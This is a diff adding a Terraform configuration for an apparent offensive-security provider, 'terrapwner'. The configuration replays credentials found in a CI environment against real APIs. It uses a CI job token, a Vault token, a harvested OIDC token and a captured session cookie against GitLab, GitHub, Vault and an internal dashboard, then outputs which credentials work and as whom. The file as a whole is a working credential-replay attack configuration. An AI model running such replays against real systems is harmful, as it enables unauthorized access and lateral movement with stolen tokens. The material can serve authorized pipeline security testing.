@@ -0,0 +1,57 @@
+terraform {
+  required_providers {
+    terrapwner = {
+      source = "hashicorp.com/DataDog/terrapwner"
+    }
+  }
+}
+
+provider "terrapwner" {}
+
+# Check whether the CI job token is usable against the GitLab API, and as whom
+data "terrapwner_http_auth_replay" "gitlab_job_token" {
+  url = "https://gitlab.example.com/api/v4/user"
+  headers = {
+    PRIVATE-TOKEN = "{{env:CI_JOB_TOKEN}}"
+  }
+}
+
+# Replay a token harvested by another data source against GitHub
+data "terrapwner_oidc_token" "github" {}
+
+data "terrapwner_http_auth_replay" "github" {
+  url          = "https://api.github.com/user"
+  bearer_token = "{{secret:${data.terrapwner_oidc_token.github.token_handle}}}"
+  headers = {
+    Accept = "application/vnd.github+json"
+  }
+}
+
+# Replay a captured session cookie against an internal service
+data "terrapwner_http_auth_replay" "session" {
+  url                   = "https://dashboard.internal.example.com/api/me"
+  cookie                = "session={{env:CAPTURED_SESSION}}"
+  identity_field        = "account.email"
+  accepted_status_codes = [200]
+  timeout               = 5
+}
+
+# Look up a Vault token
+data "terrapwner_http_auth_replay" "vault" {
+  url = "https://vault.internal.example.com:8200/v1/auth/token/lookup-self"
+  headers = {
+    X-Vault-Token = "{{env:VAULT_TOKEN}}"
+  }
+}
+
+# Output the usable credentials and their identities
+output "usable_credentials" {
+  value = {
+    for name, replay in {
+      gitlab_job_token = data.terrapwner_http_auth_replay.gitlab_job_token
+      github           = data.terrapwner_http_auth_replay.github
+      session          = data.terrapwner_http_auth_replay.session
+      vault            = data.terrapwner_http_auth_replay.vault
+    } : name => replay.identity if replay.accepted
+  }
+}